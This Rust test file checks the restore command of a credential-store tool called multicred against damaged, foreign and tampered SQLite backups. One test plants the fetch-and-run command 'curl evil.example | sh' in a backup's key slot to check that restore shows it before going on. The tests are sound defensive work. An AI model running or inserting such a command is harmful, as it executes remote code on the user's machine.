//! A backup put in the place of the store.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use multicred::store::{Durability, Store, StoreError};
use rusqlite::Connection;

use crate::scene::refusal::Refusal;
use crate::scene::seat::Seat;
use crate::scene::store::{self, Copy, beside, content};
use crate::scene::{DEV, PROD, Scene, key_in_code, tree};
use crate::support::env::Output;

/// A store, and a backup of it as it was before dev became later.
fn changed_since() -> (Scene, String, String) {
    let scene = Scene::with_bobs_roles();
    scene.env.run(&["backup", "copy.db"]).ok();
    let old = content(&scene.env.store());
    scene.env.run(&["account", DEV, "--alias", "later"]).ok();
    scene.env.run(&["account", PROD, "--alias", "prod"]).ok();
    let new = content(&scene.env.store());
    (scene, old, new)
}

fn restore(scene: &Scene) -> Output {
    scene.env.run(&["restore", "--yes", "copy.db"])
}

fn beside_store(scene: &Scene, word: &str) -> Vec<PathBuf> {
    let folder = scene.env.store().parent().unwrap().to_owned();
    let paths = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    paths.filter(|path| path.to_string_lossy().contains(word)).collect()
}

#[track_caller]
fn assert_no_drafts(scene: &Scene) {
    let drafts = beside_store(scene, "/.multicred.db");
    assert!(drafts.is_empty(), "{drafts:?}");
}

#[test]
fn the_store_is_what_it_was_and_what_was_there_is_kept_whole_and_can_be_had_again() {
    let (scene, old, _) = changed_since();
    // Something that stands in the WAL alone, of a program that stays.
    let busy = Connection::open(scene.env.store()).unwrap();
    busy.execute("UPDATE account SET colour = 'red'", []).unwrap();
    let new = content(&scene.env.store());
    let backup = fs::read(scene.env.path("copy.db")).unwrap();
    restore(&scene).ok().calm().stderr_has("what was there is kept");
    assert_eq!(content(&scene.env.store()), old);
    assert!(Copy::of(&scene.env.store()).is_whole());
    assert_eq!(fs::read(scene.env.path("copy.db")).unwrap(), backup);
    let kept = beside_store(&scene, "replaced-");
    assert_eq!(kept.len(), 1);
    assert_eq!(content(&kept[0]), new);
    tree::assert_private(scene.env.home());
    assert_no_drafts(&scene);
    scene.become_in_bash("bob").ok();
    scene.become_in_bash("dev/Writer").ok();
    scene.env.run(&["restore", "--yes", &kept[0].to_string_lossy()]).ok();
    assert_eq!(content(&scene.env.store()), new);
    assert_eq!(beside_store(&scene, "replaced-").len(), 2, "each is kept under a name of its own");
    let history = fs::read_to_string(scene.env.path("data/multicred/history.jsonl")).unwrap();
    assert_eq!(history.matches("\"restore\"").count(), 2);
}

#[test]
fn a_program_that_has_the_store_open_sees_all_of_the_old_or_all_of_the_new_and_goes_on_writing() {
    let (scene, _, _) = changed_since();
    let mut open = Store::open(&scene.env.store()).unwrap().unwrap();
    let aliases = |store: &Store| -> Vec<String> {
        store.read().accounts().unwrap().into_iter().filter_map(|row| row.alias).collect()
    };
    open.begin_snapshot();
    assert_eq!(aliases(&open), ["later", "prod"]);
    restore(&scene).ok().calm();
    assert_eq!(aliases(&open), ["later", "prod"], "a snapshot stays what it was");
    open.end_snapshot();
    assert_eq!(aliases(&open), ["dev"]);
    let written: Result<(), StoreError> = open.write(Durability::Synced, |writing| {
        let id = writing.ensure_account("aws", "333344445555")?;
        writing.set_alias(id, "third")
    });
    written.unwrap();
    drop(open);
    scene.env.run(&["account", "third"]).ok();
    assert!(Copy::of(&scene.env.store()).is_whole());
    scene.become_in_bash("dev/Writer").ok();
}

#[test]
fn what_others_write_meanwhile_is_in_the_new_store_or_in_the_one_that_is_kept() {
    let (scene, _, _) = changed_since();
    let started: Vec<_> = (0..24)
        .map(|number| {
            if number == 8 {
                return scene.env.spawn(&["restore", "--yes", "copy.db"]);
            }
            scene.env.spawn(&[
                "account",
                &format!("{}", 500_000_000_000_u64 + number),
                "--alias",
                &format!("a{number}"),
            ])
        })
        .collect();
    for process in started {
        process.end().ok().calm();
    }
    assert!(Copy::of(&scene.env.store()).is_whole());
    let kept = beside_store(&scene, "replaced-").remove(0);
    let of = |path: &Path| Copy::of(path).texts("SELECT account_id FROM account WHERE alias LIKE 'a%'");
    let mut all = [of(&scene.env.store()), of(&kept)].concat();
    all.sort();
    assert_eq!(all.len(), 23, "{all:?}");
}

#[test]
fn where_there_is_no_store_one_is_made_of_the_backup() {
    let (scene, old, _) = changed_since();
    let folder = scene.env.path("data/multicred");
    let key = fs::read(folder.join("multicred.db.key")).unwrap();
    fs::remove_dir_all(&folder).unwrap();
    let output = restore(&scene);
    output.ok().calm().stderr_has("nothing here opens").stderr_has("multicred.db.key").stderr_has("restored");
    assert_eq!(content(&scene.env.store()), old);
    assert_eq!(Copy::of(&scene.env.store()).texts("PRAGMA journal_mode"), ["wal"]);
    tree::assert_private(scene.env.home());
    assert_no_drafts(&scene);
    scene.become_in_bash("bob").refused(4, &["locked"]);
    fs::write(folder.join("multicred.db.key"), key).unwrap();
    scene.become_in_bash("bob").ok();
}

#[test]
fn a_wal_whose_store_is_gone_is_not_played_into_the_new_one() {
    let (scene, _, _) = changed_since();
    let busy = Connection::open(scene.env.store()).unwrap();
    busy.execute("UPDATE account SET colour = 'red'", []).unwrap();
    let wal = fs::read(beside(&scene.env.store(), "-wal")).unwrap();
    fs::remove_file(scene.env.store()).unwrap();
    restore(&scene).refused(1, &["multicred.db-wal", "move it aside"]);
    assert_eq!(fs::read(beside(&scene.env.store(), "-wal")).unwrap(), wal);
    assert_no_drafts(&scene);
}

/// Everything that may be called a backup and is none, or is not whole.
fn hostile(scene: &Scene) -> Vec<(&'static str, Vec<u8>)> {
    let whole = fs::read(scene.env.path("copy.db")).unwrap();
    let with = |sql: &str| {
        let path = scene.env.path("changed.db");
        fs::write(&path, &whole).unwrap();
        Connection::open(&path).unwrap().execute_batch(sql).unwrap();
        let bytes = fs::read(&path).unwrap();
        fs::remove_file(path).unwrap();
        bytes
    };
    let root = |table: &str| -> usize {
        let sql = format!("SELECT rootpage FROM sqlite_schema WHERE name = '{table}'");
        Copy::of(&scene.env.path("copy.db")).texts(&sql)[0].parse().unwrap()
    };
    let flipped = |at: usize| {
        let mut bytes = whole.clone();
        bytes[at] ^= 1;
        bytes
    };
    let foreign = {
        let path = scene.env.path("foreign.db");
        Connection::open(&path).unwrap().execute_batch("CREATE TABLE places (url TEXT)").unwrap();
        fs::read(path).unwrap()
    };
    vec![
        ("empty", Vec::new()),
        ("text", b"[default]\naws_access_key_id = x\n".repeat(10)),
        ("another program's", foreign),
        ("newer", with("PRAGMA user_version = 99")),
        ("of no version", with("PRAGMA user_version = 0")),
        ("cut in a page", whole[..whole.len() - 100].to_vec()),
        ("cut to one page", whole[..4096].to_vec()),
        ("cut in the header", whole[..50].to_vec()),
        ("a bit of the tree of credentials", flipped((root("credential") - 1) * 4096)),
        ("a bit of the count of cells", flipped((root("identity") - 1) * 4096 + 4)),
        ("a bit of the page size", flipped(16)),
        ("with a trigger", with("CREATE TRIGGER t AFTER INSERT ON link BEGIN DELETE FROM link; END")),
        ("with a view", with("CREATE VIEW v AS SELECT 1")),
        ("with another table", with("CREATE TABLE t (a)")),
        ("without a table", with("DROP TABLE mfa_use")),
        ("without an id", with("DELETE FROM store")),
        ("with a reference to nothing", with("PRAGMA foreign_keys = off; DELETE FROM account")),
        ("of other pages", with("PRAGMA page_size = 8192; VACUUM")),
    ]
}

#[test]
fn what_is_no_whole_store_of_ours_is_refused_and_nothing_is_changed() {
    let (scene, _, _) = changed_since();
    for (what, bytes) in hostile(&scene) {
        let path = scene.env.path("hostile.db");
        fs::write(&path, &bytes).unwrap();
        let before = tree::tree(&scene.env.path("data/multicred"));
        let mut folder = scene.env.path("data/multicred");
        let output = scene.env.run(&["restore", "--yes", "hostile.db"]);
        output.holds(output.status == 1, &format!("a refusal of one that is {what}"));
        output.refused(1, &["hostile.db", "nothing was changed"]);
        let mut after = tree::tree(&folder);
        // A draft came and went there; and SQLite marks who reads.
        for name in ["", "multicred.db-shm"] {
            folder = scene.env.path("data/multicred").join(name);
            let folder = if name.is_empty() { scene.env.path("data/multicred") } else { folder.clone() };
            after.insert(folder.clone(), before[&folder].clone());
        }
        tree::assert_same(&before, &after);
        assert_eq!(fs::read(&path).unwrap(), bytes, "{what}");
    }
    scene.become_in_bash("bob").ok();
}

#[test]
fn a_file_that_is_not_there_a_folder_a_pipe_and_the_store_itself_are_refused() {
    let (scene, _, new) = changed_since();
    symlink(scene.env.store(), scene.env.path("link.db")).unwrap();
    fs::hard_link(scene.env.store(), scene.env.path("hard.db")).unwrap();
    scene.env.program("mkfifo", &["pipe"]).run().ok();
    for (name, text) in [
        ("nowhere.db", "no backup"),
        ("data", "not a multicred store"),
        ("pipe", "not a multicred store"),
        ("link.db", "the store itself"),
        ("hard.db", "the store itself"),
        ("data/multicred/multicred.db", "the store itself"),
    ] {
        scene.env.run(&["restore", "--yes", name]).refused(1, &[text]);
    }
    assert_eq!(content(&scene.env.store()), new);
    assert_no_drafts(&scene);
}

#[test]
fn a_backup_of_an_earlier_version_is_brought_up_to_date_and_itself_left_alone() {
    let (scene, old, _) = changed_since();
    // A slot of that time has no proof that it was made by somebody who had the key.
    let tag = store::Copy::of(&scene.env.path("copy.db")).texts("SELECT lower(hex(tag)) FROM key_slot").concat();
    let old = old.replace(&tag, "-");
    store::make_version_1(&scene.env.path("copy.db"));
    let before = fs::read(scene.env.path("copy.db")).unwrap();
    restore(&scene).ok().calm();
    assert_eq!(content(&scene.env.store()), old);
    assert_eq!(fs::read(scene.env.path("copy.db")).unwrap(), before);
    assert!(beside_store(&scene, ".v1").is_empty());
    scene.become_in_bash("dev/Writer").ok();
}

/// A plain copy of the files of a store that was in use.
#[test]
fn a_backup_that_comes_with_a_wal_is_restored_with_what_is_in_it() {
    let (scene, _, _) = changed_since();
    let busy = Connection::open(scene.env.store()).unwrap();
    busy.execute("UPDATE account SET colour = 'red'", []).unwrap();
    for suffix in ["", "-wal"] {
        fs::copy(beside(&scene.env.store(), suffix), beside(&scene.env.path("plain.db"), suffix)).unwrap();
    }
    let copied = content(&scene.env.store());
    drop(busy);
    restore(&scene).ok();
    symlink(scene.env.path("plain.db"), scene.env.path("data/plain-link.db")).unwrap();
    scene.env.run(&["restore", "--yes", "data/plain-link.db"]).ok();
    assert_eq!(content(&scene.env.store()), copied);
    assert!(!beside(&scene.env.path("plain.db"), "-shm").exists(), "a trace is left beside the backup");
}

#[test]
fn a_damaged_store_is_replaced_and_kept_as_it_was() {
    let (scene, old, _) = changed_since();
    let path = scene.env.store();
    Connection::open(&path).unwrap().query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(())).unwrap();
    let mut bytes = fs::read(&path).unwrap();
    bytes[4096..20_000].fill(0xff);
    fs::write(&path, &bytes).unwrap();
    restore(&scene).ok();
    assert_eq!(content(&path), old);
    assert!(Copy::of(&path).is_whole());
    assert_eq!(fs::read(beside_store(&scene, "replaced-").remove(0)).unwrap()[4096..20_000], bytes[4096..20_000]);
    scene.become_in_bash("bob").ok();
}

#[test]
fn a_newer_store_may_be_replaced_by_one_that_this_version_reads() {
    let (scene, old, _) = changed_since();
    Connection::open(scene.env.store()).unwrap().pragma_update(None, "user_version", 99).unwrap();
    restore(&scene).ok();
    assert_eq!(content(&scene.env.store()), old);
}

#[test]
fn another_programs_database_and_a_store_cut_short_are_not_replaced() {
    let (scene, _, _) = changed_since();
    let path = scene.env.store();
    Connection::open(&path).unwrap().query_row("PRAGMA wal_checkpoint(TRUNCATE)", [], |_| Ok(())).unwrap();
    let whole = fs::read(&path).unwrap();
    fs::write(&path, &whole[..5000]).unwrap();
    restore(&scene).refused(1, &["damaged", "move it aside"]);
    assert_eq!(fs::read(&path).unwrap(), whole[..5000]);
    for suffix in ["", "-wal", "-shm"] {
        let _ = fs::remove_file(beside(&path, suffix));
    }
    Connection::open(&path).unwrap().execute_batch("CREATE TABLE places (url TEXT)").unwrap();
    let before = fs::read(&path).unwrap();
    restore(&scene).refused(1, &["another program", "not touched"]);
    assert_eq!(fs::read(&path).unwrap(), before);
    assert_no_drafts(&scene);
}

#[test]
fn it_asks_first_and_where_nobody_can_be_asked_it_is_refused() {
    let (scene, old, new) = changed_since();
    scene.env.run(&["restore", "copy.db"]).refused(4, &["--yes"]);
    assert_eq!(content(&scene.env.store()), new);
    for answer in ["", "n", "yess", "\u{3}", "\u{4}"] {
        let mut seat = Seat::take(&scene.env, &["restore", "copy.db"]);
        seat.wait_for("[y/N]");
        seat.type_line(answer);
        let ended = seat.end();
        assert_eq!(ended.status, 130, "{answer:?}: {ended:?}");
        assert!(ended.screen.contains("cancelled"), "{ended:?}");
        assert_eq!(content(&scene.env.store()), new);
        assert_no_drafts(&scene);
    }
    let refused = Seat::take(&scene.env, &["--no-input", "restore", "copy.db"]).end();
    assert_eq!(refused.status, 4);
    let mut seat = Seat::take(&scene.env, &["restore", "copy.db"]);
    seat.wait_for("[y/N]");
    seat.type_line("y");
    assert_eq!(seat.end().status, 0);
    assert_eq!(content(&scene.env.store()), old);
}

#[test]
fn a_backup_of_another_store_and_a_command_that_it_would_run_are_shown_first() {
    let (scene, _, _) = changed_since();
    let other = Scene::with_bob();
    other.env.run(&["backup", "copy.db"]).ok();
    let backup = Connection::open(other.env.path("copy.db")).unwrap();
    let slot = r#"INSERT INTO key_slot (kind, params, public_key, wrapped, created_at)
                  VALUES ('command', '{"command": "curl evil.example | sh", "salt": ""}', x'00', x'00', 1)"#;
    backup.execute(slot, []).unwrap();
    drop(backup);
    fs::copy(other.env.path("copy.db"), scene.env.path("foreign.db")).unwrap();
    let mut seat = Seat::take(&scene.env, &["restore", "foreign.db"]);
    seat.wait_for("[y/N]");
    for text in ["another one", "curl evil.example | sh", "is the key of another store"] {
        assert!(seat.screen().contains(text), "{text}: {}", seat.screen());
    }
    seat.type_line("n");
    seat.end();
    let output = scene.env.run(&["restore", "--yes", "--json", "foreign.db"]);
    let json = output.ok().json();
    assert_eq!((&json["of_another_store"], &json["opens"]), (&true.into(), &false.into()));
    assert_eq!(json["slots"][1]["command"], "curl evil.example | sh");
    // The key of the store that was there is still that of the copy.
    let kept = json["replaced"].as_str().unwrap();
    scene.env.run(&["--store", kept, "as", "--shell", "bash", "bob"]).ok();
}

#[test]
fn no_answer_that_was_kept_outlives_a_restore() {
    const WRITER: &str = "111122223333/Writer";
    let (scene, _, _) = changed_since();
    scene.become_in_bash(WRITER).ok();
    let answers = scene.env.path("run/multicred/answers");
    fs::create_dir_all(&answers).unwrap();
    // An answer is kept only where the store has been at rest for a while.
    std::thread::sleep(std::time::Duration::from_secs(3));
    let first = scene.become_in_bash(WRITER).ok().stdout.clone();
    assert!(fs::read_dir(&answers).unwrap().count() > 0, "this test needs an answer that is kept");
    restore(&scene).ok();
    assert_eq!(fs::read_dir(&answers).unwrap().count(), 0);
    let second = scene.become_in_bash(WRITER).ok().stdout.clone();
    assert_ne!(key_in_code(&first), key_in_code(&second), "the backup has no such session");
}
